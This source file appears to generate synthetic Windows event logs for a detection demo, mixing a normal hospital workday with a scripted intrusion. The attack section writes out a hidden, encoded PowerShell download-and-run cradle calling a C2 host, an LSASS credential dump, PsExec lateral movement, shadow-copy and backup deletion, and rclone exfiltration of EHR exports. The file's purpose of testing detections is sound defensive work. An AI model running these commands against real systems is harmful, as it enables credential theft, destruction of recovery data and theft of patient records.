/**
 * The day on the Windows hosts: staff signing in and working (browser, mail, the EHR client,
 * Office), Defender and services on the servers, a few harmless look-alikes of what the rules
 * catch; then the attack on WS-NURSE-03 and EHR-APP-01.
 */
import { DEMO_STORY } from '../../src/services/demo/demo-story.js';
import { STAFF, WINDOWS_SERVERS, type Person } from './people.js';
import { byTime, clock, random, type Random } from './random.js';
import {
  failedLogon,
  logon,
  pipeCreated,
  processAccess,
  processStart,
  renderWindows,
  serviceInstalled,
  serviceState,
  shareAccess,
  type WinEvent,
} from './windows-events.js';

const SYS32 = 'C:\\Windows\\System32';
const EXPLORER = 'C:\\Windows\\explorer.exe';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EHR_CLIENT = 'C:\\Program Files\\Cedar Clinical\\CedarEHR\\CedarEHR.exe';
const DEFENDER =
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe';

/** What one person starts at their workstation during the day. */
function workday(p: Person, r: Random): WinEvent[] {
  const start = clock('06:50:00') + r.int(0, 40 * 60) + (p.role === 'Physician' ? 3600 : 0);
  const out: WinEvent[] = [
    logon(start, p.host, p.user, 2, { ip: '127.0.0.1', workstation: p.host }, r),
  ];
  const desktop = {
    host: p.host,
    user: p.user,
    parentImage: EXPLORER,
    parentCommandLine: `${EXPLORER} `,
  };
  const apps = [
    { image: CHROME, commandLine: `"${CHROME}" --profile-directory=Default` },
    { image: `${OFFICE}\\OUTLOOK.EXE`, commandLine: `"${OFFICE}\\OUTLOOK.EXE" ` },
    { image: EHR_CLIENT, commandLine: `"${EHR_CLIENT}" /env=PROD /site=LVMC` },
    {
      image: `${OFFICE}\\WINWORD.EXE`,
      commandLine: `"${OFFICE}\\WINWORD.EXE" /n "C:\\Users\\${p.user}\\Documents\\Handover notes.docx"`,
    },
    { image: `${SYS32}\\notepad.exe`, commandLine: `"${SYS32}\\notepad.exe" ` },
  ];
  const n = r.int(8, 14);
  for (let i = 0; i < n; i++) {
    const app = r.pick(apps);
    const t = start + 60 + Math.floor(((i + r.next()) * 9 * 3600) / n);
    out.push(processStart({ t, ...desktop, ...app, cwd: `C:\\Users\\${p.user}\\` }, r));
  }
  // Printing from Word: a child of WINWORD the phishing rule does not list.
  const print = start + r.int(3600, 6 * 3600);
  out.push(
    processStart(
      {
        t: print,
        host: p.host,
        user: p.user,
        image: `${SYS32}\\splwow64.exe`,
        commandLine: `${SYS32}\\splwow64.exe 12288`,
        parentImage: `${OFFICE}\\WINWORD.EXE`,
        parentCommandLine: `"${OFFICE}\\WINWORD.EXE" /n`,
      },
      r,
    ),
  );
  // Defender scans LSASS too; the rule leaves Defender out.
  out.push(
    processAccess(start + r.int(600, 9000), p.host, DEFENDER, '0x1010', 'NT AUTHORITY\\SYSTEM', r),
  );
  if (r.next() < 0.3) out.push(failedLogon(start - 20, p.host, p.user, '127.0.0.1'));
  return out;
}

/** The Windows servers: the EHR service account, admins on the EHR share, services. */
function serverDay(server: { host: string; ip: string }, r: Random): WinEvent[] {
  const out: WinEvent[] = [];
  for (let hour = 0; hour < 24; hour++) {
    const t = hour * 3600 + r.int(0, 3000);
    out.push(logon(t, server.host, 'svc_cedar_app', 5, { ip: '-', workstation: '-' }, r));
    out.push(processAccess(t + 30, server.host, DEFENDER, '0x1010', 'NT AUTHORITY\\SYSTEM', r));
  }
  const clerks = STAFF.filter((p) => p.role === 'Registration');
  for (let i = 0; i < 12; i++) {
    const p = r.pick(clerks);
    const t = clock('07:30:00') + r.int(0, 9 * 3600);
    out.push(logon(t, server.host, p.user, 3, { ip: p.ip, workstation: p.host }, r));
    out.push(shareAccess(t + 1, server.host, p.user, p.ip, 'ScannedDocs', 'D:\\ScannedDocs'));
  }
  out.push(serviceState(clock('03:00:05'), server.host, 'Windows Update', 'running'));
  out.push(serviceState(clock('03:22:40'), server.host, 'Windows Update', 'stopped'));
  // The nightly backup job lists (never deletes) shadow copies.
  out.push(
    processStart(
      {
        t: clock('01:00:12') + r.int(0, 300),
        host: server.host,
        user: 'NT AUTHORITY\\SYSTEM',
        image: `${SYS32}\\vssadmin.exe`,
        commandLine: 'vssadmin.exe list shadows /for=D:',
        parentImage: `${SYS32}\\cmd.exe`,
        parentCommandLine: 'cmd.exe /c D:\\Scripts\\pre-backup.cmd',
        integrity: 'System',
      },
      r,
    ),
  );
  return out;
}

/** Harmless look-alikes on the admin workstation: a print spooler restart, a new updater service. */
function adminChores(r: Random): WinEvent[] {
  const it = STAFF.find((p) => p.role === 'IT');
  if (it === undefined) return [];
  return [
    processStart(
      {
        t: clock('08:15:10'),
        host: it.host,
        user: it.user,
        image: `${SYS32}\\net.exe`,
        commandLine: 'net  stop Spooler',
        parentImage: `${SYS32}\\cmd.exe`,
        parentCommandLine: '"C:\\Windows\\system32\\cmd.exe" ',
        integrity: 'High',
      },
      r,
    ),
    serviceInstalled(
      clock('11:40:02'),
      it.host,
      'Microsoft Edge Update Service (edgeupdate)',
      '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /svc',
    ),
  ];
}

/** The attack, step by step (times UTC). */
function attack(r: Random): WinEvent[] {
  const { victim, admin, server, attachment, c2 } = DEMO_STORY;
  const ws = victim.host;
  const outlook = `${OFFICE}\\OUTLOOK.EXE`;
  const word = `${OFFICE}\\WINWORD.EXE`;
  const ps = `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
  const cradle = Buffer.from(
    `IEX (New-Object Net.WebClient).DownloadString('https://${c2}/r.ps1')`,
    'utf16le',
  ).toString('base64');
  const psCommand = `powershell.exe -nop -w hidden -enc ${cradle}`;
  const docm = `C:\\Users\\${victim.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7Q2M1ZD\\${attachment}`;
  const rundll = `${SYS32}\\rundll32.exe`;
  const dump = `"${rundll}" ${SYS32}\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\Music\\rs.dmp full`;
  const cmd = `${SYS32}\\cmd.exe`;
  const psexesvc = 'C:\\Windows\\PSEXESVC.exe';
  const onServer = (t: number, image: string, commandLine: string): WinEvent =>
    processStart(
      {
        t,
        host: server.host,
        user: admin.user,
        image,
        commandLine,
        parentImage: cmd,
        parentCommandLine: `"${cmd}" `,
        integrity: 'High',
      },
      r,
    );
  return [
    // The admin fixed the workstation's label printer this morning: his logon is in its LSASS.
    logon(clock('07:48:10'), ws, admin.user, 2, { ip: '127.0.0.1', workstation: ws }, r),
    // 1. The roster attachment opened from Outlook; its macro starts PowerShell.
    processStart(
      {
        t: clock('09:12:05'),
        host: ws,
        user: victim.user,
        image: word,
        commandLine: `"${word}" /n "${docm}" /o ""`,
        parentImage: outlook,
        parentCommandLine: `"${outlook}" `,
      },
      r,
    ),
    processStart(
      {
        t: clock('09:12:41'),
        host: ws,
        user: victim.user,
        image: ps,
        commandLine: psCommand,
        parentImage: word,
        parentCommandLine: `"${word}" /n "${docm}" /o ""`,
        cwd: `C:\\Users\\${victim.user}\\Documents\\`,
      },
      r,
    ),
    // 2. LSASS dumped with comsvcs.dll MiniDump from the elevated loader.
    processStart(
      {
        t: clock('09:19:30'),
        host: ws,
        user: victim.user,
        image: rundll,
        commandLine: dump,
        parentImage: ps,
        parentCommandLine: psCommand,
        integrity: 'High',
      },
      r,
    ),
    processAccess(clock('09:19:30.4'), ws, rundll, '0x1FFFFF', `LVMC\\${victim.user}`, r),
    // 3. To the EHR application server with the admin's hash: logon, ADMIN$, PsExec.
    logon(clock('09:41:10'), server.host, admin.user, 3, { ip: victim.ip, workstation: ws }, r),
    shareAccess(
      clock('09:41:11'),
      server.host,
      admin.user,
      victim.ip,
      'ADMIN$',
      '\\??\\C:\\Windows',
    ),
    serviceInstalled(clock('09:41:12'), server.host, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'),
    pipeCreated(clock('09:41:12.5'), server.host, '\\PSEXESVC', psexesvc, r),
    processStart(
      {
        t: clock('09:41:13'),
        host: server.host,
        user: admin.user,
        image: cmd,
        commandLine: `"${cmd}" `,
        parentImage: psexesvc,
        parentCommandLine: psexesvc,
        integrity: 'High',
      },
      r,
    ),
    // 4. Recovery removed: shadow copies and the backup agent.
    onServer(
      clock('09:55:02'),
      `${SYS32}\\vssadmin.exe`,
      'vssadmin.exe delete shadows /all /quiet',
    ),
    onServer(
      clock('09:55:20'),
      `${SYS32}\\wbem\\WMIC.exe`,
      'wmic.exe shadowcopy delete /nointeractive',
    ),
    onServer(clock('09:56:05'), `${SYS32}\\net.exe`, 'net  stop VeeamEndpointBackupSvc /y'),
    serviceState(clock('09:56:07'), server.host, 'Veeam Agent for Microsoft Windows', 'stopped'),
    // 5. The export folder uploaded with rclone (the Zeek conn log sees the 1.9 GB).
    onServer(
      clock('11:02:00'),
      'C:\\ProgramData\\rc\\rclone.exe',
      'C:\\ProgramData\\rc\\rclone.exe copy D:\\CedarExports remote:lv-drop --transfers 8 --no-check-certificate',
    ),
  ];
}

/** The whole day, JSON lines in time order. */
export function windowsEventsJsonl(): string {
  const r = random(0x5eed_0001);
  const events: WinEvent[] = [];
  for (const p of STAFF) events.push(...workday(p, r));
  for (const server of WINDOWS_SERVERS) events.push(...serverDay(server, r));
  events.push(...adminChores(r), ...attack(r));
  return renderWindows(byTime(events), r);
}
